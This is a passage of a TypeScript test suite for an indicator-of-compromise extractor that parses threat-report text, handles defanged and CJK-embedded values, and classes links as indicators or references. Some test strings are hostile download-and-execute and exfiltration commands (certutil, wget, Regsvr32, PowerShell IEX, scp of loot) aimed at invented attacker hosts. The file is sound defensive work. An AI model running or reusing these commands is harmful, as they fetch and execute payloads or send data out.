		assert.deepEqual(found(`String XOR key (32-byte): ${k}\nXOR-ed with hex string ${k}\nbridge&key=${k}\nYour personal DECRYPTION ID: ${h}`), []);
		assert.deepEqual(found(`Message-ID: <${h}@127.0.0.1>; XOR-decoded payload, SHA256: ${k}`), [`sha256 ${k}`]);
	});
	test('scheme-less live links inside prose or config are not indicators; at a line start they are', () => {
		assert.deepEqual(found('"apiVersion": "networking.k8s.io/v1"'), []);
		assert.deepEqual(found('sen-ma-il-up-da-te.eu5.net/index.php?user=x'), ['url sen-ma-il-up-da-te.eu5.net/index.php?user=x']);
	});
});

suite('scanText: roles', () => {
	const role = (text: string) => scanText(text).map((m) => `${m.role} ${m.value}`);
	test('publisher and social links are references', () => {
		assert.deepEqual(role('https://unit42.paloaltonetworks.com/x https://twitter.com/Unit42_Intel https://attack.mitre.org/T1059'), [
			'reference https://unit42.paloaltonetworks.com/x',
			'reference https://twitter.com/Unit42_Intel',
			'reference https://attack.mitre.org/T1059',
		]);
		// ESET's reports link the MISP project's site for their MISP events, in reports that defang.
		assert.deepEqual(role('The https://www.misp-project.org[MISP] event for evil[.]com'), ['reference https://www.misp-project.org', 'indicator evil.com']);
	});
	test('a defanged link on a user-content site stays an indicator', () => {
		assert.deepEqual(role('hxxps://github[.]com/evil/repo'), ['indicator https://github.com/evil/repo']);
	});
	test('in a report that defangs, live links are references', () => {
		assert.deepEqual(role('C2 evil[.]top; read https://blog.vendor-research.com/post'), ['indicator evil.top', 'reference https://blog.vendor-research.com/post']);
	});
	test('in a list of indicators one per line, a live link among defanged and scheme-less ones is an indicator', () => {
		const list = 'Scam and Phishing URLs\nhxxps://startrackzm[.]com/a.php\nhttps://sa7ifa.press/a.php\t\t\nhttps://stbasil.com.ua/help/\nwebmail.udnc.com.ua/0ce2/\n- https://avast.com.ua.yourstudyway.com\n\nMore';
		assert.deepEqual(roles(list), [
			'indicator https://startrackzm.com/a.php',
			'indicator https://sa7ifa.press/a.php',
			'indicator https://stbasil.com.ua/help/',
			'indicator webmail.udnc.com.ua/0ce2/',
			'indicator https://avast.com.ua.yourstudyway.com',
		]);
		// References after a blank line or a heading, a link inside prose, or a list of live links only: citations.
		assert.deepEqual(roles('evil[.]top\n\nhttps://blog.vendor-research.com/a\nhttps://blog.vendor-research.com/b'), [
			'indicator evil.top',
			'reference https://blog.vendor-research.com/a',
			'reference https://blog.vendor-research.com/b',
		]);
		assert.deepEqual(roles('evil[.]top\nReferences:\nhttps://blog.vendor-research.com/a\nbad[.]top'), ['indicator evil.top', 'reference https://blog.vendor-research.com/a', 'indicator bad.top']);
		assert.deepEqual(roles('evil[.]top\nSee https://blog.vendor-research.com/a for more.\nbad[.]top'), ['indicator evil.top', 'reference https://blog.vendor-research.com/a', 'indicator bad.top']);
		assert.deepEqual(roles('evil[.]top\nhttps://blog.vendor-research.com/a for more\nbad[.]top'), ['indicator evil.top', 'reference https://blog.vendor-research.com/a', 'indicator bad.top']);
	});
	test('a value the report calls not malicious on its line is benign, unless it turns malicious or is an indicator still', () => {
		const h = '6cf60c768a7377f7c4842c14c3c4d416480a7044a7a5a72b61ff142a796273ec';
		assert.deepEqual(roles([
			'- port 443 - api.ipify[.]org - HTTPS traffic (IP address check, not inherently malicious)',
			`- SHA256 hash: ${h}  <-- not malicious`,
			'- port 443 - evil[.]top - HTTPS C2 traffic',
			'- evil2[.]top - encoded binary, not malicious unless decoded',
			'- evil3[.]top - not inherently malicious, but it is an indicator for this infection chain',
		].join('\n')), ['benign api.ipify.org', `benign ${h}`, 'indicator evil.top', 'indicator evil2.top', 'indicator evil3.top']);
		// The note after the last indicator of the text counts too.
		assert.deepEqual(roles('- evil[.]top - C2\n- api.ipify[.]org - IP address check, not inherently malicious'), ['indicator evil.top', 'benign api.ipify.org']);
		// The note belongs to the nearest indicator before it: prose naming a payload and then a benign check.
		assert.deepEqual(roles('The loader downloads hxxp://evil-cdn[.]top/p.bin after checking connectivity with www.google[.]com (not malicious).'), [
			'indicator http://evil-cdn.top/p.bin',
			'benign www.google.com',
		]);
		assert.deepEqual(roles('Although the signed installer is not malicious, it side-loads a DLL that beacons to 45.9.148[.]80.'), ['indicator 45.9.148.80']);
		assert.deepEqual(roles('C2: evil[.]com\nIP lookup (not malicious): api.ipify[.]org'), ['indicator evil.com', 'indicator api.ipify.org']);
	});
	test('without any defanging, live links stay indicators', () => {
		assert.deepEqual(role('https://evil.top/payload.bin'), ['indicator https://evil.top/payload.bin']);
	});
	test('type filter', () => {
		assert.deepEqual(scanText('evil[.]top 1.2.3.4', ['ipv4']).map((m) => m.value), ['1.2.3.4']);
	});
});

suite('scanText: large texts (scanned in chunks)', () => {
	test('a 2 MB text gives exactly the occurrences of its blocks, shifted, wrapped URLs included', () => {
		const block = 'C2 evil[.]com and 10.0.0[.]1 port 8080\nhxxps://bad[.]top/gate.php?id=\n    42&k=v\n  indented cdn.example-bad.net\nd41d8cd98f00b204e9800998ecf8427e CVE-2024-1234\n';
		const one = scanText(block);
		assert.equal(one.length, 6);
		const copies = Math.ceil((2 * 1024 * 1024) / block.length);
		const text = block.repeat(copies);
		const all = scanText(text);
		assert.equal(all.length, one.length * copies);
		all.forEach((m, i) => {
			const k = Math.floor(i / one.length);
			const o = one[i % one.length];
			assert.deepEqual([m.type, m.value, m.start, m.end, m.raw, m.defanged], [o.type, o.value, o.start + k * block.length, o.end + k * block.length, o.raw, o.defanged]);
		});
	});
});

suite('scanText: pasted API output, detection content and mail headers', () => {
	test("JSON's escaped slashes (abuse.ch's APIs) read as the link they escape", () => {
		const text = '"url": "http:\\/\\/103.145.13.92\\/bins\\/mozi.m",\n"ioc": "https:\\/\\/secure-login.portal-verify.top\\/wp-admin\\/x.php"';
		assert.deepEqual(found(text), ['url http://103.145.13.92/bins/mozi.m', 'url https://secure-login.portal-verify.top/wp-admin/x.php']);
		assert.equal(scanText(text)[0].raw, 'http:\\/\\/103.145.13.92\\/bins\\/mozi.m');
	});
	test('full-width defangs typed by an input method are refanged', () => {
		assert.deepEqual(found('C2 hxxp：//fw-colon[.]top/a, http：//fw2.top/b, fw-bracket［.］top, fw（.）top'), [
			'url http://fw-colon.top/a',
			'url http://fw2.top/b',
			'domain fw-bracket.top',
			'domain fw.top',
		]);
		// The colon defanged in brackets, full-width or not, and `［://］`.
		assert.deepEqual(found('hxxp［：］//cn-pay［.］top/login hxxp［:］//a-pay[.]top/x hxxp[：]//b-pay[.]top/y hxxps［://］evil[.]com/a'), [
			'url http://cn-pay.top/login',
			'url http://a-pay.top/x',
			'url http://b-pay.top/y',
			'url https://evil.com/a',
		]);
		// A full-width colon alone is punctuation, no defang: the live link after it stays an indicator.
		assert.deepEqual(roles('C2：evil.top, https://evil.top/x'), ['indicator evil.top', 'indicator https://evil.top/x']);
	});
	test('values glued to CJK text (no spaces between words) end where the script changes', () => {
		const text = [
			'IP地址为45.76.1.2，域名为evil[.]com。C2服务器evil.top连接',
			'样本MD5为d41d8cd98f00b204e9800998ecf8427e的文件，回连C2地址45.76.1.20:443，联系admin@evil-mail[.]com获取',
			'访问hxxps://evil-url[.]top/a.php获取 ドメインjp-evil2.comへ',
		].join('\n');
		assert.deepEqual(found(text), [
			'ipv4 45.76.1.2',
			'domain evil.com',
			'domain evil.top',
			'md5 d41d8cd98f00b204e9800998ecf8427e',
			'ip_port 45.76.1.20:443',
			'email admin@evil-mail.com',
			'url https://evil-url.top/a.php',
			'domain jp-evil2.com',
		]);
		// The raw text and offsets cover the value only.
		const ip = one('IP地址为45.76.1.2');
		assert.equal(ip.raw, '45.76.1.2');
		assert.equal(ip.start, 5);
		// A whole-CJK domain stays one, and so do a path's own CJK words after `/` or before `.docx`.
		assert.deepEqual(found('例子.中国 and hxxp://evil[.]top/下载/文档.docx。'), ['domain 例子.中国', 'url http://evil.top/下载/文档.docx']);
		// A path's own CJK words before its extension or parameters stay; prose glued after it does not.
		assert.deepEqual(found('hxxp://evil[.]com/下载/2024年工资调整通知.exe hxxp://f[.]com/a?s=ab中文&t=1 hxxp://g[.]com/file.exe中文说明'), [
			'url http://evil.com/下载/2024年工资调整通知.exe',
			'url http://f.com/a?s=ab中文&t=1',
			'url http://g.com/file.exe',
		]);
		// Glued version numbers are still versions.
		assert.deepEqual(found('版本号1.2.3.5 版本1.2.3.4'), []);
		// A port after a full-width colon; a sentence's full stop after a port phrase ends it.
		assert.deepEqual(found('C2地址：45.76.1.2：443。 Then 1.2.3.4 port 80.'), ['ip_port 45.76.1.2:443', 'ip_port 1.2.3.4:80']);
	});
	test("the loops' character table agrees with the regexes' letter class on every code unit", () => {
		// The scanner's regexes (ANCHOR, the host patterns) and its hand-written loops must see the same letters.
		const letter = new RegExp(`^[${LETTERS}]$`);
		for (let c = 0; c < 0x10000; c++) {
			const ch = String.fromCharCode(c);
			const label = letter.test(ch);
			const word = label || '.-+%'.includes(ch);
			const cjk = CJK_RANGES.some(([from, to]) => c >= from && c <= to);
			const at = `U+${c.toString(16)}`;
			assert.equal(isLabelCode(c), label, at);
			assert.equal(isWordCode(c), word, at);
			assert.equal(isCjkCode(c), cjk, at);
			const want = (word ? T_WORD : 0) | (c < 0x80 && label ? T_ASCII_LABEL : 0) | (cjk ? T_CJK : 0) | (label ? T_LABEL : 0);
			assert.equal(TOKEN_KIND[c], want, at);
		}
		// Past the end of a text `charCodeAt` gives NaN: no letter.
		assert.equal(isLabelCode(Number.NaN), false);
		assert.equal(isWordCode(Number.NaN), false);
	});
	test('CJK list bullets, the ideographic comma between links and glued CVE ids', () => {
		const text = ['・jp-post-delivery[.]net', '・45.14.224[.]111', '●update.cn-soft[.]top', '①hxxp://103.117.141[.]21/a.exe', 'hxxp://a-cdn[.]top/x.bin、hxxp://b-cdn[.]top/y.bin', 'IP段：103.56.16.0/24、45.142.212.0/22。', '使用CVE-2024-3400漏洞'].join('\n');
		assert.deepEqual(found(text), [
			'domain jp-post-delivery.net',
			'ipv4 45.14.224.111',
			'domain update.cn-soft.top',
			'url http://103.117.141.21/a.exe',
			'url http://a-cdn.top/x.bin',
			'url http://b-cdn.top/y.bin',
			'cidr 103.56.16.0/24',
			'cidr 45.142.212.0/22',
			'cve CVE-2024-3400',
		]);
	});
	test('version, build and section numbers in other languages are no addresses', () => {
		const text = ['版本号为 3.1.0.2，版本信息：1.0.0.1', 'バージョン情報 1.0.0.3 버전 정보 2.1.0.4', 'Сборка 1.0.0.5, см. раздел 3.2.1.1', '见第4.1.2.1节', '## 3.2.1.1 初始载荷分析', 'C2 47.242.6.1'].join('\n');
		assert.deepEqual(found(text), ['ipv4 47.242.6.1']);
		// A heading that is an address stays one, in English whatever its numbers; `第` and `п` need their own form.
		assert.deepEqual(found('## 185.220.101.4 (C2)\n## 8.8.8.8 Google DNS abused\n# 10.0.0.1 dc01'), ['ipv4 185.220.101.4', 'ipv4 8.8.8.8', 'ipv4 10.0.0.1']);
		assert.deepEqual(found('接続次第 45.76.1.2 and Сервер п 45.76.1.3'), ['ipv4 45.76.1.2', 'ipv4 45.76.1.3']);
	});
	test("markdown's underscore emphasis around a value is no part of it", () => {
		assert.deepEqual(found('_evil[.]com_ and __evil3[.]com__ and __45.9.1.2__'), ['domain evil.com', 'domain evil3.com', 'ipv4 45.9.1.2']);
		// A DNS name that begins with `_` (a TXT or SRV record) keeps it, and so do a mailbox and a service's name; in a
		// path the name is none.
		assert.deepEqual(found('_dmarc.evil4[.]com'), ['domain _dmarc.evil4.com']);
		assert.deepEqual(found('_user_@evil5[.]com and _ldap._tcp.evil6[.]com_'), ['email _user_@evil5.com', 'domain _ldap._tcp.evil6.com']);
		assert.deepEqual(found('C:\\Users\\_evil7.com_\\x'), []);
	});
	test('`&amp;` in a link copied from HTML source is `&` in its value; the raw text keeps it', () => {
		const m = one('See hxxps://evil[.]top/a?x=1&amp;y=2 now');
		assert.equal(m.value, 'https://evil.top/a?x=1&y=2');
		assert.equal(m.raw, 'hxxps://evil[.]top/a?x=1&amp;y=2');
		assert.deepEqual(found('evil[.]top/b?x=1&amp;y=3'), ['url evil.top/b?x=1&y=3']);
	});
	test('a live link a command fetches or a rule matches is a payload even in a report that defangs', () => {
		const text = [
			'C2: update-cdn[.]top',
			'certutil.exe -urlcache -split -f http://files.xred-update.site/load.exe %TEMP%\\load.exe',
			'wget http://dl.kinsing-mirror.xyz/kinsing -O /tmp/kinsing',
			'Regsvr32 /s /n /u /i:http://evil185.com/file.sct scrobj.dll',
			'IEX (New-Object Net.WebClient).DownloadString("https://evil-ps.top/a.ps1")',
			'"pattern": "[url:value = \'https://files.dropmefiles.top/d/abc123\']"',
			'$u = "http://moolin.ru/index.php?id="',
			"c-uri|contains: 'https://paste-bin-raw.xyz/raw/'",
			'<Content type="string">http://apt-c2-live.net/index.asp</Content>',
			'Read https://blog.vendor-research.com/post and the PHP manual https://docs.evil-free.org/x',
			'- Certutil (LOLBAS): https://lolbas-project.github.io/lolbas/Binaries/Certutil/',
			'See the curl manual at https://curl.se/docs/manpage.html',
		].join('\n');
		assert.deepEqual(roles(text), [
			'indicator update-cdn.top',
			'indicator http://files.xred-update.site/load.exe',
			'indicator http://dl.kinsing-mirror.xyz/kinsing',
			'indicator http://evil185.com/file.sct',
			'indicator https://evil-ps.top/a.ps1',
			'indicator https://files.dropmefiles.top/d/abc123',
			'indicator http://moolin.ru/index.php?id=',
			'indicator https://paste-bin-raw.xyz/raw/',
			'indicator http://apt-c2-live.net/index.asp',
			'reference https://blog.vendor-research.com/post',
			'reference https://docs.evil-free.org/x',
			'reference https://lolbas-project.github.io/lolbas/Binaries/Certutil/',
			'reference https://curl.se/docs/manpage.html',
		]);
	});
	test("a value written with JSON's escaped slashes does not make a report that defangs nothing cite its live links", () => {
		assert.deepEqual(roles('Payload: https://files-share.xyz/a.zip\nConfig: {"c2":"http:\\/\\/103.145.13.92\\/bins\\/mozi.m"}'), [
			'indicator https://files-share.xyz/a.zip',
			'indicator http://103.145.13.92/bins/mozi.m',
		]);
	});
	test("a mail header's message ids are no mailboxes; its senders are", () => {
		const text = [
			'Message-ID: <CAF1234@mail.gmail.com>',
			'In-Reply-To: <335140558.5692.1601907623511.JavaMail.zimbra@infoclub.com.np>',
			'References: <a1@x-sender.com> <b2@mail.evilsender.top>',
			'- Message-Id: <202010010629.0916RZFr014158@brigitte.ocmsysteme.com>',
			'From: "Bob" <bob@evilsender.top>',
		].join('\n');
		assert.deepEqual(found(text), ['email bob@evilsender.top']);
	});
	test('a login with ssh or scp names the server, no mailbox; prose naming SSH before an address does not', () => {
		assert.deepEqual(found('ssh -i key admin@jump.evil-ssh.top\n$ scp loot.tgz root@exfil.evil-ssh.top:/tmp/\nmail admin@evil-ssh.top'), [
			'domain jump.evil-ssh.top',
			'domain exfil.evil-ssh.top',
			'email admin@evil-ssh.top',
		]);
		assert.deepEqual(found('The script harvested SSH credentials and mailed them to k3rn3l.dump@gmail.com'), ['email k3rn3l.dump@gmail.com']);
	});
	test("databases' connection strings are links", () => {
		assert.deepEqual(found('postgres://admin:pw@db.evil-pg.top:5432/loot mongodb+srv://u:p@cluster0.evil-mongo.top/x'), [
			'url postgres://admin:pw@db.evil-pg.top:5432/loot',
			'url mongodb+srv://u:p@cluster0.evil-mongo.top/x',
		]);
	});
	test('an address and port with a no-break space before "port"', () => {
		assert.deepEqual(found('1.2.3[.]5\u00a0port 443'), ['ip_port 1.2.3.5:443']);
	});
});

suite('scanText: values that are no indicators', () => {
	test('loopback, unspecified, link-local and multicast addresses are no one\'s server', () => {
		const text = [
			'127.0.0.1 hostfile-two.xyz',
			'0.0.0.0 hostfile-three.online',
			'Listening on 0.0.0.0:4444; Tor at 127[.]0.0[.]1:9050; metadata 169.254.169.254; mDNS 224.0.0.251',
			'fe80::1c2d:3e4f:5a6b:7c8d%eth0 ff02::1:2 [::1]:80 ::ffff:127.0.0.1 127.0.0.0/8 255.255.255.255',
			'proxy=http://127.0.0.1:8080/x',
			'C2 10.1.2.3:445 45.9.148.80 2001:db8:85a3::8a2e:370:7334 [2a01:4f8::1]:443 185.220.101.0/24',
		].join('\n');
		assert.deepEqual(found(text), [
			'domain hostfile-two.xyz',
			'domain hostfile-three.online',
			'ip_port 10.1.2.3:445',
			'ipv4 45.9.148.80',
			'ipv6 2001:db8:85a3::8a2e:370:7334',
			'ip_port [2a01:4f8::1]:443',
			'cidr 185.220.101.0/24',
		]);
	});
	test('hex labelled as an import hash, a TLS fingerprint or a certificate thumbprint is no file hash', () => {
		const text = [
			'Imphash: f34d5f2d4577ed6d9ceec516c1f5a746',
			'Hashes=SHA256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A747',
			'condition: pe.imphash() == "f34d5f2d4577ed6d9ceec516c1f5a744"',
			'JA3: 72a589da586844d7f0818ce684948eea, JA3S 72a589da586844d7f0818ce684948eeb',
			'Certificate serial 0a1b2c3d4e5f60718293a4b5c6d7e8f9; Thumbprint: 9a4c3f2e1d0b9a8c7d6e5f4a3b2c1d0e9f8a7b6a',
			'MD5: 72a589da586844d7f0818ce684948eec',
		].join('\n');
		assert.deepEqual(found(text), ['sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', 'md5 72a589da586844d7f0818ce684948eec']);
	});
	test("log schema fields, rule buffers, namespaces and a script's variables are no domains", () => {
		const text = [
			'host.id process.name process.parent.name dns.question.name user.name file.name cloud.account.name',
			'(http.host; content:"a"; file.name; ssh.software; file.data; dns.query.name;)',
			'System.Net, System.IO, System.Security, $wc.download',
			'exfiltrated to file.io, C2 at evil.name and update.host-cdn.site',
		].join('\n');
		assert.deepEqual(found(text), ['domain file.io', 'domain evil.name', 'domain update.host-cdn.site']);
	});
	test('live domains that merely start like a field or a namespace stay domains', () => {
		assert.deepEqual(found('C2 domains: file.dropbox-sync.site, cloud.msft-auth.host, server.unpad.ac.id, cloud.host, system.ink, identity.icu, eval.top'), [
			'domain file.dropbox-sync.site',
			'domain cloud.msft-auth.host',
			'domain server.unpad.ac.id',
			'domain cloud.host',
			'domain system.ink',
			'domain identity.icu',
			'domain eval.top',
		]);
	});
	test("a Windows prefetch file's name is no domain in French Polynesia", () => {
		assert.deepEqual(found('Prefetch RCLONE.EXE-2B4E3F1A.pf and MIMIKATZ.EXE-599C44B5.pf; C2 evil-site.pf'), ['domain evil-site.pf']);
	});
	test('dotted numbers after a version word of another language, a section word or an object-id label', () => {
		const text = [
			'La versión 2.0.0.1. A versão 2.0.0.2. La versione 2.0.0.3. Уязвима версия 6.4.0.0',
			'受影响版本：1.2.3.4 バージョン 9.12.4.62 Dokumentversion 1.0.0.3',
			'Kapitel 4.1.2.3, Abschnitt 3.2.1.4, chapter 8.3.1.1, appendix 8.3.1.5, EKU: 1.3.6.1, OID 2.5.29.37',
			'C2 at 45.9.148.80 and a table of 45.9.148.81',
			// A section word and a colon head a list of addresses.
			'IOC Appendix: 45.9.1.2, 45.9.1.3; Figure: 45.9.1.4 hosting the team server',
		].join('\n');
		assert.deepEqual(found(text), ['ipv4 45.9.148.80', 'ipv4 45.9.148.81', 'ipv4 45.9.1.2', 'ipv4 45.9.1.3', 'ipv4 45.9.1.4']);
	});
	test("registrars, their name servers and privacy services in a WHOIS record are cited, not hunted", () => {
		const text = [
			'Registrar WHOIS Server: whois.namecheap.com',
			'Registrar Abuse Contact Email: abuse@namecheap.com',
			'Registrant Email: 2f9a77c1d0e@withheldforprivacy.com',
			'Name Server: dns1.registrar-servers.com',
			'Name Server: ns1.evil-ns.top',
			'Sender: p3plsmtpa06-02.prod.phx3.secureserver.net',
		].join('\n');
		assert.deepEqual(roles(text), [
			'reference whois.namecheap.com',
			'reference abuse@namecheap.com',
			'reference 2f9a77c1d0e@withheldforprivacy.com',
			'reference dns1.registrar-servers.com',
			'indicator ns1.evil-ns.top',
			'indicator p3plsmtpa06-02.prod.phx3.secureserver.net',
		]);
	});
});
